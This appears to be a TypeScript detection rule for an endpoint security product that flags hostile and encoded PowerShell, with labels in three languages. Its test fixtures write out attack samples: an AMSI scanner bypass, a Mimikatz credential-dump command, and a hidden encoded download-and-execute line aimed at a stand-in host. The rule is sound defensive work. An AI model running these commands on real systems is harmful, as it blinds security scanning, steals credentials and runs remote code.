import type { DetectionLevel } from '../../model/detection.ts'
import { proofOf } from '../drafts.ts'
import { decodedCommand } from '../../normalise/encoded-command.ts'
import { exampleEvent } from '../example.ts'
import type { Find, Rule } from '../rule.ts'
import { isScriptHost, scriptProcess } from '../script-process.ts'
import { judgeScript, SCRIPT_SIGN_TEXTS } from '../script-signs.ts'

/** Managers of machines pass their own scripts encoded all day; what such a script does weighs, not that it is encoded. */
const ENCODED_ALONE = 0.45
/** A hidden window without a profile is how malware starts its next step. */
const ENCODED_HIDDEN = 0.7
const HIDDEN = /\s-w(?:in\w*)?\s+(?:h\w*|1)\b/i
/** A script that unpacks itself is recorded in each of its forms; they are one finding while they come together. */
const EPISODE_US = 3_600_000_000
const MAX_WORDS = 200
/** Command lines remembered as judged. Attack: a host that starts with another one each time. */
const MAX_COMMANDS = 50_000

const rule: Rule = {
  id: 'script.hostile',
  order: 38,
  relations: [],
  detections: ['hostile_script', 'encoded_command'],
  scope: 'endpoint',
  attack: ['T1059.001', 'T1027.010', 'T1562.001', 'T1620', 'T1140'],
  attackOf: {
    hostile_script: ['T1059.001'],
    encoded_command: ['T1027.010'],
  },
  texts: {
    en: {
      title: 'Hostile PowerShell',
      description:
        'The text of a script or command shows what it is for: it switches off logging or scanning, is a known attack tool, dumps or changes memory, opens a back door, runs what it fetched or unpacked, or hides its text. Encoded commands are decoded first.',
      needs:
        'PowerShell script block and module logging (4104, 4103, 800), or process start records with command lines. The process is named where the record carries its id or only one PowerShell ran.',
      falsePositives:
        'Management software runs encoded commands every day; unless the decoded text or a hidden window says more, they weigh little. Security tests and teaching material hold the names of attack tools.',
      'detection.hostile_script': 'Hostile PowerShell script',
      'detection.encoded_command': 'Encoded PowerShell command',
      'reason.encoded': '{program} was started with an encoded command: {words}',
      'reason.encoded_hidden': '{program} was started hidden with an encoded command: {words}',
      ...SCRIPT_SIGN_TEXTS.en,
    },
    'zh-TW': {
      title: '惡意 PowerShell',
      description:
        '指令碼或命令的內容透露其用途：關閉記錄或掃描、屬於已知的攻擊工具、傾印或竄改記憶體、開啟後門、執行下載或解開的內容，或隱藏自身文字。經編碼的命令會先解碼。',
      needs:
        'PowerShell 指令碼區塊與模組記錄（4104、4103、800），或含命令列的處理程序啟動紀錄。紀錄載明處理程序識別碼，或當時只有一個 PowerShell 在執行時，才會列出處理程序。',
      falsePositives:
        '管理軟體每天都會執行經編碼的命令；除非解碼內容或隱藏視窗另有跡象，否則嚴重性不高。資安測試與教材也會出現攻擊工具的名稱。',
      'detection.hostile_script': '惡意 PowerShell 指令碼',
      'detection.encoded_command': '經編碼的 PowerShell 命令',
      'reason.encoded': '{program} 以經編碼的命令啟動：{words}',
      'reason.encoded_hidden': '{program} 以隱藏視窗及經編碼的命令啟動：{words}',
      ...SCRIPT_SIGN_TEXTS['zh-TW'],
    },
    ja: {
      title: '悪意のある PowerShell',
      description:
        'スクリプトやコマンドの本文が目的を示しています。ログ記録や検査の無効化、既知の攻撃ツール、メモリのダンプや改変、バックドア、取得または展開した内容の実行、本文の隠蔽などです。符号化されたコマンドは先に復号します。',
      needs:
        'PowerShell のスクリプトブロックおよびモジュールのログ（4104、4103、800）、またはコマンドラインを含むプロセス起動の記録。プロセスは、記録に ID があるか、動作中の PowerShell が 1 つだけの場合に示します。',
      falsePositives:
        '管理ソフトウェアは日常的に符号化されたコマンドを実行するため、復号した内容や隠しウィンドウなどの兆候がなければ重く見ません。セキュリティテストや教材にも攻撃ツールの名前が現れます。',
      'detection.hostile_script': '悪意のある PowerShell スクリプト',
      'detection.encoded_command': '符号化された PowerShell コマンド',
      'reason.encoded': '{program} が符号化されたコマンドで起動しました：{words}',
      'reason.encoded_hidden': '{program} が、ウィンドウを隠し、符号化されたコマンドで起動しました：{words}',
      ...SCRIPT_SIGN_TEXTS.ja,
    },
  },
  matches: [
    {
      title:
        'a script that blinds the scanner, in the process its record names, and a tool on a host without starts',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 5,
        }),
        exampleEvent('process-start', 1, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 6,
        }),
        exampleEvent('script-block', 2, {
          pid: 6,
          detail:
            "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsiInitFailed','NonPublic,Static')",
        }),
        exampleEvent('script-block', 3, { host: 'WS-02', detail: 'Invoke-Mimikatz -DumpCreds' }),
      ],
      finds: ['!hostile_script: powershell.exe', '!hostile_script: WS-02'],
    },
    {
      title: 'encoded commands: one that fetches and runs, one that only hides',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 5,
          commandLine: `powershell -nop -w hidden -enc ${Buffer.from('iex (irm https://cdn.example.net/a)', 'utf16le').toString('base64')}`,
        }),
        exampleEvent('process-start', 1, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\pwsh.exe',
          pid: 6,
          commandLine: `pwsh -w hidden -enc ${Buffer.from('Get-Process; Get-Service', 'utf16le').toString('base64')}`,
        }),
      ],
      finds: ['!hostile_script: powershell.exe', '!encoded_command: pwsh.exe'],
    },
  ],
  ignores: [
    {
      title: 'scripts of modules and administrators',
      items: [
        exampleEvent('script-block', 0, {
          detail:
            'function Get-Report { Invoke-WebRequest -Uri https://intranet.corp.example/r.csv -OutFile C:\\Reports\\r.csv }',
        }),
        exampleEvent('script-block', 1, {
          detail:
            "$bytes = [Convert]::FromBase64String($config.Key); [IO.File]::WriteAllBytes('C:\\x.key', $bytes)",
        }),
        exampleEvent('process-start', 2, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 7,
          commandLine: 'powershell -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1',
        }),
      ],
      finds: [],
    },
  ],

  *run(view): Generator<Find> {
    const seen = new Set<string>()
    for (const event of view.events(
      ['script-block', 'script-module'],
      ['detail', 'pid', 'processGuid', 'commandLine'],
    )) {
      const { detail, commandLine } = event.fields
      if (event.endpointId === null) continue
      // Each record of a command repeats the command line of its host: it is judged once.
      const key = `${event.endpointId}|${commandLine}`
      const isNew = commandLine !== undefined && seen.size < MAX_COMMANDS && !seen.has(key)
      if (isNew) seen.add(key)
      const host = isNew ? (decodedCommand(commandLine) ?? '') : ''
      const judged = (detail === undefined ? undefined : judgeScript(detail)) ?? judgeScript(host)
      if (!judged) continue
      const ran = scriptProcess(view, event)
      yield {
        detection: 'hostile_script',
        level: judged.level,
        subject: ran?.process.draft ?? event.endpointId,
        involved: [event.endpointId],
        window: ran || event.at === null ? '' : String(Math.floor(event.at / EPISODE_US)),
        at: event.at,
        confidence: judged.confidence,
        reason: `script_${judged.sign}`,
        params: {
          program: ran?.process.draft.name ?? view.entity(event.endpointId).name,
          words: judged.words,
        },
        proof: proofOf(event),
      }
    }
    for (const process of view.processes.started) {
      if (!process.event || !isScriptHost(process.path)) continue
      const decoded = decodedCommand(process.commandLine)
      const judged = judgeScript(decoded ?? process.commandLine)
      const base = {
        subject: process.draft,
        involved: [process.endpointId],
        at: process.startAt,
        proof: proofOf(process.event),
      }
      if (judged)
        yield {
          ...base,
          detection: 'hostile_script',
          level: judged.level,
          confidence: judged.confidence,
          reason: `script_${judged.sign}`,
          params: { program: process.draft.name, words: judged.words },
        }
      if (decoded === undefined) continue
      const isHidden = HIDDEN.test(process.commandLine)
      const isHigh = judged?.level === 'high' || (judged !== undefined && isHidden)
      const level: DetectionLevel = isHigh ? 'high' : isHidden || judged ? 'medium' : 'low'
      yield {
        ...base,
        detection: 'encoded_command',
        level,
        confidence: judged ? 0.85 : isHidden ? ENCODED_HIDDEN : ENCODED_ALONE,
        reason: isHidden ? 'encoded_hidden' : 'encoded',
        params: { program: process.draft.name, words: decoded.replace(/\s+/g, ' ').slice(0, MAX_WORDS) },
      }
    }
  },
}
export default rule
